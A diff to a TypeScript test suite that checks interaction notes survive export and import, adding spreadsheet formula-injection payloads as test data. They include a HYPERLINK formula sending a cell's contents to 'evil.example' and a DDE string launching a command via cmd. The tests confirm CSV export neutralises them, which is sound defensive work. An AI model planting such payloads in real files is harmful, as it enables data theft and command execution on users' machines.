@@ -1,3 +1,5 @@
+import { readFileSync } from 'node:fs';
+import { parse } from 'csv-parse/sync';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Interaction } from '../../src/domain/support/schemas.ts';
 import { deleteInteraction, logInteractions } from '../../src/server/interactions/operations.ts';
@@ -9,7 +11,23 @@ import {
 import { createTestDatabase, type TestDatabase } from '../support/databases.ts';
 import { buildOrganization } from '../support/factories.ts';
 import { buildEngagement, typicalInteraction } from '../support/records.ts';
-import { sortedCarried, tempFolder } from './files.ts';
+import { readXlsx, sortedCarried, tempFolder } from './files.ts';
+
+/**
+ * Notes a spreadsheet would run as formulas if written as they are. The schema trims notes, so a note
+ * sent with a leading tab or carriage return is stored from the character after it; the last two begin
+ * with an apostrophe already, which the export must keep through the round trip.
+ */
+const formulaNotes = [
+  '=HYPERLINK("http://evil.example/?"&A1,"Open")',
+  "+1 555 0100 called back; cmd|' /C calc'!A0",
+  '-2 on the fidelity checklist',
+  '@SUM(1+1)*cmd',
+  '\t=1+2',
+  '\r-3+4',
+  "'=kept as the partner typed it",
+  "''@twice",
+];
 
 /** Interactions that exercise every column: no time, no components, ratings and none, counts, awkward notes. */
 function variedInteractions(engagementA: string, engagementB: string) {
@@ -51,7 +69,19 @@ function variedInteractions(engagementA: string, engagementB: string) {
       participants: { contactIds: [], counts: { organization: 2, system: 1 } },
       nextSteps: [],
     }),
+    ...formulaNotes.map((notes, i) =>
+      typicalInteraction(engagementB, { date: `2021-08-${String(i + 1).padStart(2, '0')}`, notes, nextSteps: [] }),
+    ),
   ];
+}
+
+/** The notes column of an exported file, as the file holds it. */
+async function notesCells(file: string): Promise<string[]> {
+  const [header, ...rows] = file.endsWith('.xlsx')
+    ? await readXlsx(file)
+    : (parse(readFileSync(file, 'utf8'), { bom: true }) as string[][]);
+  const column = header!.indexOf('notes');
+  return rows.map((row) => row[column] ?? '');
 }
 
 const cases = [
@@ -92,6 +122,13 @@ describe.each(['sqlite', 'postgres'] as const)('export then import gives the sam
   it.each(engine === 'postgres' ? cases.slice(0, 1) : cases)('$format layout as $file', async ({ format, file }) => {
     const target = folder.file(file);
     await exportInteractionsToFile(t.store, orgId, format, target);
+    // A CSV guards each note a spreadsheet would take for a formula with an apostrophe; a workbook holds
+    // them as text cells, which a spreadsheet never evaluates, so they are written as they are.
+    const stored = originals.map((i) => i.notes).filter((n) => /^'*[=+\-@]/.test(n));
+    expect(stored).toHaveLength(formulaNotes.length);
+    const cells = await notesCells(target);
+    for (const note of stored) expect(cells).toContain(file.endsWith('.xlsx') ? note : `'${note}`);
+    if (!file.endsWith('.xlsx')) expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
     const before = new Set((await t.store.tenant(orgId).interactions.allLive()).map((i) => i.id));
 
     const dry = await importInteractions(t.store, orgId, target, {
